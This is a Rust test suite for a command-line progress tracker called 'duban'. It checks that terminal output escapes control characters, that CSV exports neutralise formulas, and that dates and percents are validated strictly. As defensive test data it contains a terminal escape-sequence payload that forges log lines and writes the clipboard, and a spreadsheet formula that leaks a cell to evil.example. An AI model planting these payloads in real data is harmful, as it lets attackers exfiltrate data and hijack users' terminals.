//! The command line prints data safely and reads its values strictly:
//! control characters shown, one record one line; CSV cells never run as
//! formulas; dates exactly YYYY-MM-DD; percents 0 to 100.

use std::path::Path;
use std::process::{Command, Output};

const BIN: &str = env!("CARGO_BIN_EXE_duban");

/// A note that retitles the terminal, writes the clipboard, clears the
/// screen and forges a second log line.
const HOSTILE: &str =
    "ok\u{1b}]0;pwned\u{7}\u{1b}]52;c;cHduZWQ=\u{7}\u{1b}[2J\n2023-05-01  K9.9  100 %  forged";

/// A copy of the bundled dataset in a temporary directory.
fn dataset() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let data = duban::store::load(None).unwrap();
    duban::store::write_dataset(dir.path(), &data).unwrap();
    dir
}

fn duban(dir: &Path, args: &[&str]) -> Output {
    Command::new(BIN)
        .args(["--today", "2023-06-01", "--data"])
        .arg(dir)
        .args(args)
        .output()
        .expect("run duban")
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn has_controls(s: &str) -> bool {
    s.chars().any(|c| c.is_control() && c != '\n' && c != '\t')
}

fn set(dir: &Path, note: &str) {
    let out = duban(
        dir,
        &[
            "progress",
            "set",
            "K1.1",
            "--percent",
            "10",
            "--date",
            "2023-05-01",
            "--note",
            note,
        ],
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
}

#[test]
fn progress_log_shows_control_characters_and_keeps_one_line_per_entry() {
    let dir = dataset();
    set(dir.path(), HOSTILE);
    let out = duban(dir.path(), &["progress", "log"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let shown = text(&out.stdout);
    assert!(!has_controls(&shown), "{shown:?}");
    assert_eq!(shown.lines().count(), 1, "{shown}");
    assert!(shown.contains("ok\\e]0;pwned\\x07"), "{shown}");
    // The forged "line" stays inside the real one.
    assert!(shown.contains("K9.9  100 %  forged"), "{shown}");
}

#[test]
fn search_shows_control_characters_in_dataset_text() {
    let dir = tempfile::tempdir().unwrap();
    let mut data = duban::store::load(None).unwrap();
    data.tasks[0].text =
        format!("招商引资\u{1b}[2J\u{1b}]0;pwned\u{7}{}", data.tasks[0].text).into();
    duban::store::write_dataset(dir.path(), &data).unwrap();
    let out = duban(dir.path(), &["search", "招商引资"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let shown = text(&out.stdout);
    assert!(shown.contains("\\e[2J"), "{shown}");
    assert!(!has_controls(&shown), "{shown:?}");
}

#[test]
fn check_quotes_a_broken_source_line_printably() {
    let dir = dataset();
    let plan = dir.path().join("plan.ron");
    let text_before = std::fs::read_to_string(&plan).unwrap();
    let broken = text_before.replacen("title: \"", "title: \u{1b}]0;pwned\u{7} \"", 1);
    std::fs::write(&plan, broken).unwrap();
    let out = duban(dir.path(), &["check"]);
    assert!(!out.status.success());
    let shown = text(&out.stderr);
    assert!(shown.contains("plan.ron"), "{shown}");
    assert!(shown.contains("\\e]0;pwned\\x07"), "{shown}");
    assert!(!has_controls(&shown), "{shown:?}");
}

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";

/// The notes column of `duban ARGS` (a CSV with notes in column 13) after
/// a formula was saved as a note: only the neutralised formula.
fn formula_notes(args: &[&str]) {
    let dir = dataset();
    set(dir.path(), FORMULA);
    let out = duban(dir.path(), args);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let mut csv = csv::Reader::from_reader(out.stdout.as_slice());
    let notes: Vec<String> = csv
        .records()
        .map(|r| r.unwrap()[13].to_string())
        .filter(|n| !n.is_empty())
        .collect();
    assert_eq!(notes, [format!("'{FORMULA}")]);
}

#[test]
fn export_csv_neutralises_a_formula_note() {
    formula_notes(&["export", "--format", "csv"]);
}

#[test]
fn report_csv_neutralises_a_formula_note() {
    formula_notes(&["report", "--format", "csv"]);
}

/// `progress set` with `args` fails, names `expected` on stderr, and
/// writes no journal.
fn refused(args: &[&str], expected: &str) {
    let dir = dataset();
    let mut all = vec!["progress", "set", "K1.1"];
    all.extend_from_slice(args);
    let out = duban(dir.path(), &all);
    assert!(!out.status.success(), "{args:?} was accepted");
    let shown = text(&out.stderr);
    assert!(shown.contains(expected), "{args:?}: {shown}");
    assert!(!dir.path().join("progress.ron").exists());
}

#[test]
fn a_date_without_leading_zeros_is_refused() {
    refused(&["--percent", "10", "--date", "2023-5-1"], "YYYY-MM-DD");
}

#[test]
fn a_date_with_a_sign_is_refused() {
    refused(&["--percent", "10", "--date", "+2023-05-01"], "YYYY-MM-DD");
}

#[test]
fn a_day_past_the_month_is_no_such_date() {
    refused(
        &["--percent", "10", "--date", "2023-02-30"],
        "没有这一天：2023-02-30（2023-02 只有 28 天）",
    );
    refused(
        &["--lang", "en", "--percent", "10", "--date", "2023-02-30"],
        "no such date: 2023-02-30 (2023-02 has 28 days)",
    );
}

#[test]
fn a_percent_over_100_names_the_range() {
    refused(&["--percent", "256"], "0 到 100");
    refused(&["--lang", "en", "--percent", "101"], "0 to 100");
}

#[test]
fn a_loose_today_is_refused_everywhere() {
    let out = Command::new(BIN)
        .args(["--today", "2023-6-1", "check"])
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(text(&out.stderr).contains("YYYY-MM-DD"));
}
